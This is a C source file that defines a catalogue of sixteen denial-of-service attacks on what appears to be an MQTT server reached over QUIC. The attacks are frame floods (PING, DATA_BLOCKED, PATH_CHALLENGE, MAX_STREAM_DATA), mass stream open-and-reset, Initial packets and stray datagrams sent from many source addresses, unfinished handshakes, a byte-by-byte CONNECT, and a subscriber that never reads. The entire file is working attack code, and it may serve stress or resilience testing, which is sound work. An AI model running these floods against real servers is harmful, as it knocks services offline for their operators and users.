/* SPDX-License-Identifier: MIT */
#include "attacks.h"

#include <stdio.h>
#include <string.h>
#include <sys/random.h>
#include <unistd.h>

/* Bytes of frames in a packet that goes through a network with an MTU of 1280. */
#define FULL 1150
/* A server's default grant, this side of what it grants later. */
#define STREAMS_GRANTED 10
/* Below what a server grants for a stream before it has read anything. */
#define WINDOW    200000
#define TEMPLATES 512
#define SOURCES   256

/* ---- Packets full of frames ------------------------------------------------------------- */

static void fill_blocked(struct client *client, struct octets *frames)
{
	(void)client;
	while (frames->len < FULL)
		FRAME(frames, FRAME_DATA_BLOCKED, 0);
}

static void fill_stream_blocked(struct client *client, struct octets *frames)
{
	(void)client;
	while (frames->len < FULL)
		FRAME(frames, FRAME_STREAM_DATA_BLOCKED, 0, 0);
}

/* Bytes that were there before, which nothing limits. */
static void fill_again(struct client *client, struct octets *frames)
{
	(void)client;
	while (frames->len < FULL)
		frame_stream(frames, 0, 0, "\x10", 1, false);
}

/* Every other byte, so that nothing can be put together. */
static void fill_tiny(struct client *client, struct octets *frames)
{
	while (frames->len < FULL) {
		client->count = client->count > WINDOW ? 0 : client->count + 2;
		frame_stream(frames, 0, 1000 + client->count, "x", 1, false);
	}
}

static void fill_ping(struct client *client, struct octets *frames)
{
	(void)client;
	while (frames->len < FULL)
		FRAME(frames, FRAME_PING);
}

static void fill_one_ping(struct client *client, struct octets *frames)
{
	(void)client;
	FRAME(frames, FRAME_PING);
	octets_zeros(frames, 4);
}

static void fill_credit(struct client *client, struct octets *frames)
{
	while (frames->len < FULL)
		FRAME(frames, FRAME_MAX_STREAM_DATA, 0, (uint64_t)1 << 20 | ++client->count);
}

static void fill_challenge(struct client *client, struct octets *frames)
{
	while (frames->len < FULL) {
		client->count++;
		frame_path(frames, FRAME_PATH_CHALLENGE, (const uint8_t *)&client->count);
	}
}

static bool may_open(const struct client *client)
{
	uint64_t granted = client->peer->max_streams;

	return client->streams < (granted > 0 ? granted : STREAMS_GRANTED);
}

static void fill_reset(struct client *client, struct octets *frames)
{
	while (frames->len < FULL && may_open(client)) {
		uint64_t id = client->streams++ * 4;

		frame_stream(frames, id, 0, "\xc0", 1, false);
		FRAME(frames, FRAME_RESET_STREAM, id, 0, 1);
		FRAME(frames, FRAME_STOP_SENDING, id, 0);
	}
	FRAME(frames, FRAME_PING);
}

static void fill_open(struct client *client, struct octets *frames)
{
	while (frames->len < FULL && may_open(client))
		frame_stream(frames, client->streams++ * 4, 0, "\xc0\x00", 2, true);
	FRAME(frames, FRAME_PING);
}

/* ---- Other things ------------------------------------------------------------------------ */

static void say(struct client *client, const struct octets *frames)
{
	hostile_say(client->peer, frames);
}

static void act_move(struct crowd *crowd, struct client *client)
{
	struct octets frames = {.len = 0};

	(void)crowd;
	wire_move(client->peer);
	FRAME(&frames, FRAME_PING);
	octets_zeros(&frames, 20);
	say(client, &frames);
}

/* What looks like a packet of a connection that nobody has. */
static void act_datagram(struct crowd *crowd, struct client *client)
{
	static int sockets[SOURCES];
	static uint8_t data[1200];
	uint64_t turn = client->count++;
	int *fd = &sockets[turn % SOURCES];

	if (*fd == 0)
		*fd = wire_open((uint32_t)turn);
	if (*fd < 0 || getrandom(data, 32, 0) != 32)
		return;
	data[0] = 0x40 | (data[0] & 0x3f);
	wire_throw(*fd, &crowd->target, data, turn % 2 == 0 ? sizeof(data) : 40);
}

/* Good ones, of clients that nobody will hear of again. */
static void make_initials(struct crowd *crowd, struct octets *initials)
{
	unsigned int i;

	for (i = 0; i < TEMPLATES; i++) {
		struct hostile *peer = crowd_peer(crowd);

		wire_capture(&initials[i]);
		hostile_start(peer);
		wire_close(peer);
	}
}

static void act_initial(struct crowd *crowd, struct client *client)
{
	static struct octets initials[TEMPLATES];
	static int sockets[SOURCES];
	uint64_t turn = client->count++;
	const struct octets *initial = &initials[turn % TEMPLATES];
	int *fd = &sockets[turn % SOURCES];

	if (turn == 0)
		make_initials(crowd, initials);
	/* Now and then from another address, so that the server sees ever new ones. */
	if (turn % 16 == 0 && *fd > 0) {
		close(*fd);
		*fd = 0;
	}
	if (*fd == 0)
		*fd = wire_open((uint32_t)turn);
	if (*fd >= 0)
		wire_throw(*fd, &crowd->target, initial->data, initial->len);
}

/* Begins a handshake, proves its address if it is asked to, and leaves the server waiting. */
static void act_stall(struct crowd *crowd, struct client *client)
{
	if (client->peer != NULL)
		wire_close(client->peer);
	client->peer = crowd_peer(crowd);
	hostile_start(client->peer);
	wire_wait(client->peer, 1);
	client->peer->no_acks = true;
	wire_read(client->peer);
	client->peer->mute = true;
}

/* One byte of a CONNECT that has a very long client identifier. */
static void act_drip(struct crowd *crowd, struct client *client)
{
	static const uint8_t head[] = {0x10, 0xff, 0x7f, 0, 4, 'M', 'Q',
				       'T',  'T',  4,    2, 0, 60,  0x3f};
	struct octets frames = {.len = 0};
	uint8_t byte = client->count < sizeof(head) ? head[client->count] : 'x';

	(void)crowd;
	frame_stream(&frames, 0, client->count++, &byte, 1, false);
	say(client, &frames);
}

/* Wants to hear all there is, and has no room for it. */
static void act_read_nothing(struct crowd *crowd, struct client *client)
{
	static const uint8_t subscribe[] = {0x82, 6, 0, 1, 0, 1, '#', 0};
	struct octets frames = {.len = 0};

	(void)crowd;
	if (client->count++ > 0)
		return;
	frame_stream(&frames, 0, client->streams, subscribe, sizeof(subscribe), false);
	say(client, &frames);
}

/* ---- All of them ------------------------------------------------------------------------- */

static const struct attack attacks[] = {
	{.name = "blocked",
	 .what = "packets full of DATA_BLOCKED",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_blocked},
	{.name = "stream-blocked",
	 .what = "packets full of STREAM_DATA_BLOCKED",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_stream_blocked},
	{.name = "stream-frames",
	 .what = "packets full of STREAM frames with a byte that was there before",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_again},
	{.name = "tiny-frames",
	 .what = "packets full of STREAM frames with every other byte",
	 .clients = 1,
	 .reach = REACH_HANDSHAKE,
	 .fill = fill_tiny},
	{.name = "ping",
	 .what = "packets full of PING",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_ping},
	{.name = "small-packets",
	 .what = "packets with one PING",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_one_ping},
	{.name = "credit",
	 .what = "packets full of MAX_STREAM_DATA",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_credit},
	{.name = "challenge",
	 .what = "packets full of PATH_CHALLENGE",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_challenge},
	{.name = "reset",
	 .what = "streams that are opened and reset",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_reset},
	{.name = "stream-open",
	 .what = "streams that are opened and finished",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .fill = fill_open},
	{.name = "migration",
	 .what = "each packet from another port",
	 .clients = 1,
	 .reach = REACH_MQTT,
	 .act = act_move},
	{.name = "datagram",
	 .what = "packets of no connection, from many addresses",
	 .clients = 1,
	 .reach = REACH_NOTHING,
	 .act = act_datagram},
	{.name = "initial",
	 .what = "first packets of new clients, from many addresses",
	 .clients = 1,
	 .reach = REACH_NOTHING,
	 .act = act_initial},
	{.name = "stall",
	 .what = "handshakes that nobody finishes, from many addresses that answer",
	 .clients = 256,
	 .rate = 2000,
	 .reach = REACH_NOTHING,
	 .many_addresses = true,
	 .act = act_stall},
	{.name = "slow-connect",
	 .what = "clients that send CONNECT byte by byte",
	 .clients = 100,
	 .rate = 2000,
	 .reach = REACH_HANDSHAKE,
	 .many_addresses = true,
	 .act = act_drip},
	{.name = "slow-reader",
	 .what = "clients that subscribe to everything and read nothing",
	 .clients = 20,
	 .rate = 2000,
	 .reach = REACH_MQTT,
	 .many_addresses = true,
	 .act = act_read_nothing},
};

#define ATTACKS (sizeof(attacks) / sizeof(attacks[0]))

const struct attack *attack_find(const char *name)
{
	size_t i;

	for (i = 0; i < ATTACKS; i++)
		if (strcmp(name, attacks[i].name) == 0)
			return &attacks[i];
	return NULL;
}

void attack_print_all(void)
{
	size_t i;

	for (i = 0; i < ATTACKS; i++)
		printf("%s\t%s\n", attacks[i].name, attacks[i].what);
}
